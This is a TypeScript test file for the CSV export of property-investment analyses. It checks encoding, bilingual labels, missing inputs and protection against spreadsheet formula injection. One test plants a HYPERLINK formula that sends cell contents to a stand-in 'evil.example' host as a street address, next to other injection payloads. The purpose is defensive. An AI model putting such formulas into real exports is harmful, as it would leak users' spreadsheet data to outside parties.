import { calculators } from '@cancha/contract/analysis/calculators'
import { CALCULATORS } from '@cancha/domain/analysis/calculators/calculators'
import type { Language } from '@cancha/domain/ground/text/language'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { field } from '../../../csv.ts'
import { analysis, EXAMPLES } from '../../../testing/builders/analyses.ts'
import { type Person, person } from '../../../testing/cast.ts'
import { callAs } from '../../../testing/requests.ts'
import { createTestApp, type TestApp } from '../../../testing/test-app.ts'

let app: TestApp
let ana: Person
beforeAll(async () => {
  app = await createTestApp({ CANCHA_LIMITS: 'on' })
  ana = await person(app)
})
afterAll(() => app.close())

const csv = (who: Person, shortid: string, lang: Language = 'es') =>
  callAs(app, who, calculators.analysisTables, { params: { shortid }, query: { lang } })

describe('the CSV of an analysis', () => {
  test('has the mark of UTF-8, every figure with its decimals and every row of the tables', async () => {
    const shortid = await analysis(app, ana, { type: 'rental_property', data: EXAMPLES.rental_property })
    const answer = await csv(ana, shortid)
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect([...answer.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const lines = answer.body.trimEnd().split('\r\n')
    expect(lines).toContain('"Precio de compra","100000","Purchase price","USD","escrito"')
    expect(
      lines.some(
        (line) =>
          line.startsWith('"Pago de la hipoteca","1097.74') ||
          line.startsWith('"Pago de la hipoteca","1097.75'),
      ),
    ).toBe(true)
    expect(lines).toContain('"Ganancia sobre tu dinero","∞","Cash on cash","%"')
    const { tables } = CALCULATORS.rental_property
    for (const { title, rows } of tables(EXAMPLES.rental_property)) {
      const from = lines.indexOf(`"${title}"`)
      expect(from, title).toBeGreaterThan(0)
      expect(lines.slice(from + 2, from + 2 + rows.length).every((line) => /^"\d+",/.test(line))).toBe(true)
    }
  })

  test('names the costs that were left empty, and not those that were told', async () => {
    const data = { ...EXAMPLES.refinance_property, insurance: 1200, vacancy: 0 }
    const body = (await csv(ana, await analysis(app, ana, { type: 'refinance_property', data }))).body
    expect(body).toContain('"Sin contar","impuesto predial, mantenimiento ni administración"')
    expect(body).toContain('"Seguro al año","1200","Insurance"')
  })

  test('[CALC-050] says which number its figures wait for, and counts none of them without it', async () => {
    const data = { ...EXAMPLES.rental_property, interest: '', monthly_rent: '' }
    const { body } = await csv(ana, await analysis(app, ana, { type: 'rental_property', data }))
    expect(body).toContain('"Falta","Tasa de interés al año y Renta al mes"')
    expect(body).toContain('"Tasa de interés al año","","Interest rate"')
    expect(body).toContain('"Te queda al mes","","Cash flow"')
  })

  test('names every input with its unit and whether it was written, in the language that was asked for', async () => {
    const shortid = await analysis(app, ana, {
      type: 'refinance_property',
      data: { ...EXAMPLES.refinance_property, interest: 7.125 },
    })
    const spanish = (await csv(ana, shortid)).body.split('\r\n')
    expect(spanish).toContain('"Tasa de interés al año","7.125","Interest rate","%","escrito"')
    expect(spanish).toContain('"Puntos sobre el préstamo nuevo","2","Points","%","valor de la calculadora"')
    expect(spanish).toContain('"Meses hasta refinanciar","0","Duration","meses","valor de la calculadora"')
    expect(spanish).toContain('"Año","Intereses (USD)","A la deuda (USD)","Debes (USD)"')
    const answer = await csv(ana, shortid, 'en')
    expect(answer.headers['content-disposition']).toContain('3 Elm Rd - tables.csv')
    const english = answer.body.split('\r\n')
    expect(english).toContain('"Annual interest rate","7.125","%","entered"')
    expect(english).toContain('"Months until refinance","0","months","calculator’s value"')
    expect(answer.body).not.toMatch(/[áéíóúñ]/i)
  })

  test.each([
    ['=1+1', `"'=1+1"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t'=1"`],
    ['  =1', `"'  =1"`],
    ['\r=1', `"'\r'=1"`],
    ['dijo "sí"', '"dijo ""sí"""'],
    ['a,b', '"a,b"'],
    ['a\nb', '"a\nb"'],
    ['', '""'],
    [null, '""'],
    [-41_100, '"-41100"'],
    ['∞', '"∞"'],
  ])('%j is written %s', (cell, shown) => {
    expect(field(cell)).toBe(shown)
  })

  test('never runs what was typed as an address or a name', async () => {
    const street = '=HYPERLINK("http://evil.example?"&A1;"Abrir")'
    const shortid = await analysis(app, ana, { data: { street, purchase_price: 1 }, name: '@SUM(1+9)' })
    const cells = (await csv(ana, shortid)).body.replace('\uFEFF', '').match(/"(?:[^"]|"")*"/g) ?? []
    expect(cells.length).toBeGreaterThan(20)
    expect(cells.filter((cell) => /^"[=+@]|^"-\D/.test(cell))).toEqual([])
  })
})
